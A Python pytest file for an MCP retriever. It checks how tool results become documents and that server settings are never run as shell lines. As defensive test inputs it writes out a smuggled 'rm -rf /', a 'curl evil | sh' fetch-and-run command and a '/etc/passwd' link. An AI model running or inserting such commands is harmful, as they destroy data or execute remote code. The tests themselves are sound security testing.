"""The `mcp` retriever's reading of tool answers, and who may name its server."""

from __future__ import annotations

import json

import pytest
from mcp.types import (
    CallToolResult,
    EmbeddedResource,
    ResourceLink,
    TextContent,
    TextResourceContents,
)

from grounded_research.configuration import Context
from grounded_research.errors import RunRefused
from grounded_research.policy import ServerPolicy
from grounded_research.retrieval.mcp_tools import ToolDocument, server_target, tool_documents


def test_structured_documents_with_their_locations_and_titles() -> None:
    result = CallToolResult(
        content=[TextContent(type="text", text="ignored: structured content wins")],
        structured_content={
            "documents": [
                {"id": "wiki/a1", "title": "A1", "text": "Ships in 2027."},
                {"url": "https://example.org/a1", "name": "A1 page"},  # no text: fetched
                {"title": "neither text nor a web location"},
                {"id": "ticket/1", "content": "Density 390 Wh/kg."},
            ]
        },
    )
    assert tool_documents(result) == [
        ToolDocument("wiki/a1", "A1", "Ships in 2027."),
        ToolDocument("https://example.org/a1", "A1 page", ""),
        ToolDocument("ticket/1", "", "Density 390 Wh/kg."),
    ]


def test_content_blocks_each_a_document() -> None:
    listed = json.dumps([{"uri": "kb://1", "page_content": "From JSON text."}])
    result = CallToolResult(
        content=[
            TextContent(type="text", text="Plain text is a document."),
            TextContent(type="text", text=listed),
            EmbeddedResource(
                type="resource",
                resource=TextResourceContents(uri="file:///kb/2.md", text="Embedded."),
            ),
            ResourceLink(type="resource_link", uri="https://example.org/3", name="Three"),
            ResourceLink(type="resource_link", uri="file:///etc/passwd", name="not fetched"),
            TextContent(type="text", text="   "),
        ]
    )
    assert tool_documents(result) == [
        ToolDocument("", "", "Plain text is a document."),
        ToolDocument("kb://1", "", "From JSON text."),
        ToolDocument("file:///kb/2.md", "", "Embedded."),
        ToolDocument("https://example.org/3", "Three", ""),
    ]


def test_the_server_is_a_url_or_an_argument_list_never_a_shell_line() -> None:
    assert server_target(Context(mcp_server=" https://kb.example/mcp ")) == (
        "https://kb.example/mcp"
    )
    started = server_target(Context(mcp_server="kb-server --index '/srv/my docs'; rm -rf /"))
    assert started.command == "kb-server"
    assert started.args == ["--index", "/srv/my docs;", "rm", "-rf", "/"]


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        ({"mcp_tool": "search"}, "the mcp retriever needs --mcp-server"),
        ({"mcp_server": "kb-server"}, "the mcp retriever needs --mcp-server"),
        ({"mcp_server": "kb-server", "mcp_tool": "s"}, "needs --allow-mcp-server-start"),
        ({"mcp_server": "kb 'x", "mcp_tool": "s"}, "is not a command line"),
    ],
)
def test_what_the_mcp_retriever_lacks_is_said_before_the_run(
    values: dict[str, str], problem: str
) -> None:
    assert problem in Context(retrievers="mcp", **values).retriever_problem()


def test_a_url_needs_no_consent() -> None:
    context = Context(retrievers="mcp", mcp_server="http://127.0.0.1:9/mcp", mcp_tool="s")
    assert context.retriever_problem() == ""


@pytest.mark.parametrize(
    "asked",
    [
        {"mcp_server": "sh -c 'curl evil | sh'"},
        {"allow_mcp_server_start": True},
        {"mcp_tool": "delete_everything"},
        {"mcp_query_argument": "path"},
    ],
)
def test_a_caller_of_a_served_graph_never_names_or_starts_a_tool_server(
    asked: dict[str, object],
) -> None:
    with pytest.raises(RunRefused, match="is set by the server's operator"):
        ServerPolicy.strictest().admit(asked)
